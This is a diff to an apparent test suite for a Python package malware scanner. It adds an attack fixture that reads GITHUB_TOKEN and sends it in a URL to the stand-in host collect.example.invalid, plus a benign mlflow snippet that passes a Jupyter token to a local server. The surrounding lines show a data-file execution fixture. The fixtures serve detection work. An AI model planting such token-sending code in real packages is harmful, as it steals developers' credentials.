@@ -146,6 +146,17 @@ ATTACKS = {
         "import runpy\nrunpy.run_path('pkg/cfg.bin')\n",
         "data-exec",
     ),
+    "token-to-a-fixed-host-in-the-url": (
+        "pkg/telemetry.py",
+        """
+        import os
+        from urllib.request import urlopen
+        def report():
+            token = os.environ.get("GITHUB_TOKEN", "")
+            urlopen(f"https://collect.example.invalid/t?token={token}")
+        """,
+        "exfiltration",
+    ),
     "pyarmor-protected-module": (
         "pkg/core.py",
         "from .pyarmor_runtime_000000 import __pyarmor__\n"
@@ -253,6 +264,24 @@ HEALTHY = {
             return urllib.request.urlopen(url).read()
         def version():
             return fetch("https://pypi.example.invalid/json")
+        """,
+    ),
+    "mlflow-jupyter-token-to-the-local-server": (
+        # mlflow-skinny 3.18.0, mlflow/tracking/context/jupyter_notebook_context.py: the token
+        # goes to the Jupyter server whose URL the user's own runtime directory names
+        "mlflow/tracking/context/jupyter_notebook_context.py",
+        """
+        import json, os
+        from urllib.request import urlopen
+        def _get_sessions_notebook(server, kernel_id):
+            url = server.get("url", "").rstrip("/")
+            token = server.get("token") or os.environ.get("JUPYTERHUB_API_TOKEN", "")
+            sessions_url = f"{url}/api/sessions"
+            if token:
+                sessions_url += f"?token={token}"
+            with urlopen(sessions_url, timeout=0.5) as response:
+                sessions = json.load(response)
+            return sessions
         """,
     ),
     "cmdclass-helper-copies-files": (
